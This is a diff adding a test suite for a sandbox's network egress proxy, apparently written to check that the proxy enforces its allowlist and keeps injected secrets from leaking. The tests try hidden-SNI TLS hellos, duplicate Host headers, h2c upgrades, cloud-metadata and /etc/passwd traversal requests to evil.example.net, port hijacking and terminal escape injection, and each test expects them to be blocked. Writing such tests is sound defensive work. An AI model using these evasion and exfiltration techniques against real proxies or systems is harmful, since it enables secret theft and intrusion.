@@ -1,0 +1,251 @@
+import { readdirSync, statSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { textWith } from "../support/network/canary.ts";
+import { createInside, type Inside, ways } from "../support/network/inside.ts";
+import { PUBLIC } from "../support/network/internet.ts";
+import { useMachine } from "../support/network/run-in.ts";
+
+const machine = useMachine();
+const seen = () => machine.internet.world.seen({ take: true });
+let inside: Inside;
+beforeAll(async () => {
+  const argv = [
+    "--allow-root",
+    "--network",
+    "api.example.com,other.example.com/open,cdn.example.net,registries:npm",
+    "--secret",
+    "KEY@api.example.com;from=env:RIG_CANARY",
+  ];
+  inside = await createInside(machine, argv, { env: { RIG_CANARY: machine.internet.canary } });
+});
+afterAll(() => inside.remove());
+
+/** Speaks TLS to a host through a tunnel, as carefully or as carelessly as `work` says; \`c\` is the connection before TLS, \`hello(name)\` the bytes of a client's hello. */
+const tunnelled = (work: string) => `
+import os, socket, ssl, sys, time
+def hello(name):
+    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+    try: ssl.create_default_context().wrap_bio(into, out, server_hostname=name).do_handshake()
+    except ssl.SSLWantReadError: pass
+    return out.read()
+def tunnel(host, port=443):
+    c = socket.create_connection(("127.0.0.1", 19080), 5)
+    c.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n".encode())
+    got = b""
+    while b"\\r\\n\\r\\n" not in got: got += c.recv(1)
+    assert b" 200 " in got, got
+    return c
+def secure(host): return ssl.create_default_context().wrap_socket(tunnel(host), server_hostname=host)
+def rest(c):
+    got = b""
+    try:
+        while True:
+            piece = c.recv(65536)
+            if not piece: return got
+            got += piece
+    except OSError: return got
+key = os.environ.get("KEY", "")
+${work}
+`;
+const python = async (work: string) => {
+  const { code, stdout, stderr } = await inside.run(["python3", "-c", tunnelled(work)], { input: "" });
+  expect(code, stdout + stderr).toBe(0);
+  return stdout;
+};
+
+describe("a hello that hides its name", () => {
+  const pieces: Record<string, string> = {
+    "in one piece": "c.sendall(h)",
+    "byte by byte": "[c.sendall(bytes([b])) for b in h]",
+    "in many records": "c.sendall(b''.join(record(h, h[5:][i:i+7]) for i in range(0, len(h) - 5, 7)))",
+    "the name across two records": "n = h.index(b'example') - 5; c.sendall(record(h, h[5:][:n]) + record(h, h[5:][n:]))",
+    "behind an empty record": "c.sendall(record(h, b'') + h)",
+  };
+  /** The names that arrive when this is said to a host that is allowed and not looked into. */
+  const arriving = async (name: string, send: string) => {
+    await seen();
+    await python(`
+def record(h, part): return h[0:3] + len(part).to_bytes(2, "big") + part
+c, h = tunnel("cdn.example.net"), hello("${name}")
+c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+try: ${send}
+except OSError: pass
+c.settimeout(1)
+try: print(c.recv(20))
+except OSError as error: print(error)`);
+    return (await seen()).hellos;
+  };
+  test.each(Object.entries(pieces))("%s", async (how, send) => {
+    expect(await arriving("evil.example.net", send)).toEqual([]);
+    if (!how.includes("empty")) expect(await arriving("cdn.example.net", send)).toEqual(["cdn.example.net"]);
+  });
+});
+
+describe("requests in a tunnel that is looked into", () => {
+  test("for another host, or none, or not a request at all: nothing arrives", async () => {
+    const refused = [
+      "GET / HTTP/1.1\r\nHost: evil.example.net\r\nX: KEY\r\n\r\n",
+      "GET / HTTP/1.1\r\nHost: api.example.com\r\nHost: evil.example.net\r\nX: KEY\r\n\r\n",
+      "GET / HTTP/1.1\r\nX: KEY\r\n\r\n",
+      "GET https://evil.example.net/ HTTP/1.1\r\nHost: api.example.com\r\nX: KEY\r\n\r\n",
+      "GET / HTTP/1.1\r\nHost: api.example.com\r\nX: KEY\nY: z\r\n\r\n",
+      "CONNECT evil.example.net:443 HTTP/1.1\r\nHost: evil.example.net:443\r\n\r\n",
+      "SSH-2.0-x\r\nKEY\r\n\r\n",
+    ];
+    await seen();
+    const told = await python(`
+import json
+for request in json.loads(${JSON.stringify(JSON.stringify([...refused, "GET /good HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n"]))}):
+    s = secure("api.example.com"); s.settimeout(3); s.sendall(request.replace("KEY", key).encode()); print(rest(s)[:12].decode())`);
+    expect(
+      told
+        .trim()
+        .split("\n")
+        .map((line) => line.slice(9, 10)),
+    ).toEqual([...refused.map(() => "4"), "2"]);
+    expect((await seen()).requests.map(({ path }) => path)).toEqual(["/good"]);
+  });
+
+  test("each is decided on its own, also behind one that is allowed", async () => {
+    await seen();
+    const two =
+      "GET /open/1 HTTP/1.1\\r\\nHost: other.example.com\\r\\n\\r\\nGET /closed HTTP/1.1\\r\\nHost: other.example.com\\r\\nConnection: close\\r\\n\\r\\n";
+    const told = await python(`s = secure("other.example.com"); s.settimeout(5); s.sendall(b"${two}"); print(rest(s).decode())`);
+    expect(told).toMatch(/HTTP\/1\.1 200 [\s\S]*HTTP\/1\.1 403 /);
+    expect((await seen()).requests.map(({ path }) => path)).toEqual(["/open/1"]);
+  });
+
+  test("a wish for HTTP/2 does not open a way past it", async () => {
+    await seen();
+    const upgrade = "-H 'Upgrade: h2c' -H 'HTTP2-Settings: AAMAAABkAAQAAP__' -H 'Connection: Upgrade, HTTP2-Settings'";
+    for (const url of ["http://api.example.com/", "https://api.example.com/"]) await inside.ok(`curl -sS --http1.1 ${upgrade} ${url}`);
+    expect(await inside.ok("curl -sS --http2 -o /dev/null -w '%{http_version} %{http_code}' https://api.example.com/")).toBe("1.1 200");
+    expect(JSON.stringify((await seen()).requests.map(({ headers }) => headers))).not.toMatch(/h2c|http2-settings/i);
+  });
+});
+
+describe("a secret that is to be somewhere else", () => {
+  test("in places where a server would show or keep it, it stays the placeholder", async () => {
+    await seen();
+    const requests = [
+      "GET /{key} HTTP/1.1\\r\\nHost: api.example.com",
+      "GET /?q={key} HTTP/1.1\\r\\nHost: api.example.com",
+      "GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n{key}: x",
+      "POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: 40",
+    ];
+    for (const head of requests) {
+      await python(
+        `s = secure("api.example.com"); s.settimeout(3); s.sendall(f"${head}\\r\\nConnection: close\\r\\n\\r\\n".encode() + key.encode().ljust(40)[:40 if "POST" in "${head}" else 0]); print(rest(s)[:20])`,
+      );
+    }
+    expect(textWith(JSON.stringify((await seen()).requests), machine.internet.canary)).toEqual([]);
+  });
+
+  test("a server that sends it back in pieces, or where it does not belong, shows the placeholder", async () => {
+    const told = await inside.ok(`curl -sSi -H "X-Key: $KEY" -H "X-Twice: $KEY $KEY" https://api.example.com/`);
+    expect(textWith(told, machine.internet.canary)).toEqual([]);
+    expect(told.match(/ghp_\w{36}/g)).toHaveLength(3);
+    // Asked for uncompressed, so that it can be looked through.
+    expect(told).not.toMatch(/"accept-encoding":"[^"]*gzip/);
+  });
+
+  test("nothing inside can sign for the sandbox's authority", async () => {
+    const keys = await inside.run(["sh", "-c", "grep -rls 'PRIVATE KEY' /run /tmp /home /workspace /etc 2>/dev/null; true"], {
+      user: "root",
+    });
+    expect(keys.stdout.split("\n").filter((path) => !path.startsWith("/etc/ssl") && path !== "")).toEqual([]);
+    const { stdout, stderr } = await inside.run(
+      ["sh", "-c", "echo x > /run/caisson/ca.pem; rm -rf /run/caisson; mv /run/caisson /tmp/x; ls /run/caisson | wc -l"],
+      { user: "root" },
+    );
+    expect(stderr).toMatch(/Read-only|not permitted|denied|busy/i);
+    expect(Number(stdout)).toBeGreaterThan(3);
+    const folder = join(machine.home, "sandboxes", inside.id);
+    for (const name of readdirSync(folder).filter((each) => /^network/.test(each)))
+      expect(statSync(join(folder, name)).mode & 0o077, name).toBe(0);
+    expect(statSync(folder).mode & 0o077).toBe(0);
+  });
+});
+
+describe("other doors", () => {
+  test("the ports that the host serves cannot be taken, also while nobody serves", async () => {
+    const take =
+      "import socket\nfor port in (19080, 19082):\n  for a in ('127.0.0.1', '0.0.0.0'):\n    s = socket.socket(); s.setsockopt(1, 2, 1); s.setsockopt(1, 15, 1)\n    try: s.bind((a, port)); s.listen(); print('took', port)\n    except OSError as e: print(e.errno)";
+    const { servedBy } = JSON.parse((await machine.run(["net", "show", inside.id, "--json"])).stdout) as { servedBy: number };
+    const script = `sleep 0.5; python3 -c "${take}"`;
+    const trying = machine.start(["exec", "--sandbox", inside.id, "--user", "root", "--", "sh", "-c", `echo ready; ${script}`]);
+    await trying.says(/ready/);
+    process.kill(servedBy, "SIGKILL");
+    expect((await trying.finished).stdout).toBe("ready\n98\n98\n98\n98\n");
+  });
+
+  test("the mirror of registries asks nobody else, whatever it is asked for", async () => {
+    await inside.ok("true");
+    await seen();
+    const port = 19_082;
+    const targets = [
+      "http://169.254.169.254/latest",
+      "http://evil.example.net/",
+      "/npm/..%2f..%2f..%2fetc/passwd",
+      "/npm/../../etc/passwd",
+      "/npm//evil.example.net/x",
+      "/npm/@evil.example.net/x",
+      "/npm/http://evil.example.net/",
+    ];
+    const answers = await inside.exchange(
+      targets.map((target) => ({ port, send: `GET ${target} HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n` })),
+    );
+    for (const [index, { text }] of answers.entries()) {
+      expect(text, targets[index]).toMatch(/^(HTTP\/1\.1 [45]|$)/);
+      expect(text, targets[index]).not.toContain("root:");
+    }
+    const { connections, questions } = await seen();
+    expect(connections.filter(({ address }) => /^(169|151|10)\./.test(address))).toEqual([]);
+    expect(questions.filter(({ name }) => name.includes("evil"))).toEqual([]);
+  });
+
+  test("what somebody writes into a log does not reach a terminal as it is", async () => {
+    const nasty = "GET http://evil.example.net/%1b%5b31m\x1b[31m HTTP/1.1\r\nHost: evil.example.net\r\n\r\n";
+    await inside.exchange([
+      { send: nasty },
+      ways.request("evil.example.net", "/%1b[31m"),
+      ways.request("evil.example.net", `/${"\x9b"}31m`),
+      ways.tunnel("ev\x1b[31mil.example.net"),
+    ]);
+    const { stdout } = await machine.run(["net", "log", inside.id]);
+    expect(stdout).toContain("denied");
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for.
+    expect(stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
+  });
+
+  test("an answer that is none is not passed on", async () => {
+    const bad = [
+      "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
+      "HTTP/1.1 200 OK\nX: y\n\n",
+      "nonsense",
+      "HTTP/1.1 200 OK\r\nX : y\r\n\r\n",
+      "HTTP/1.1 99999 OK\r\n\r\n",
+    ];
+    for (const text of bad) {
+      const [answer] = await inside.exchange([
+        ways.request("api.example.com", `/raw?bytes=${encodeURIComponent(Buffer.from(text).toString("base64"))}`),
+      ]);
+      expect(answer?.text, text).toMatch(/^HTTP\/1\.1 502 /);
+    }
+  });
+
+  test("a WebSocket works through it, plain and looked into", async () => {
+    const frames = `
+def socket_to(c):
+    c.settimeout(5)
+    c.sendall(b"GET /ws HTTP/1.1\\r\\nHost: api.example.com\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n")
+    got = b""
+    while b"\\r\\n\\r\\n" not in got: got += c.recv(1)
+    c.sendall(b"\\x81\\x85\\0\\0\\0\\0hello")
+    return got.split()[1], c.recv(100)
+print(socket_to(tunnel("api.example.com", 80)), socket_to(secure("api.example.com")))`;
+    expect(await python(frames)).toBe("(b'101', b'\\x81\\x05hello') (b'101', b'\\x81\\x05hello')\n");
+    expect((await seen()).connections.every(({ address }) => address === PUBLIC)).toBe(true);
+  });
+});
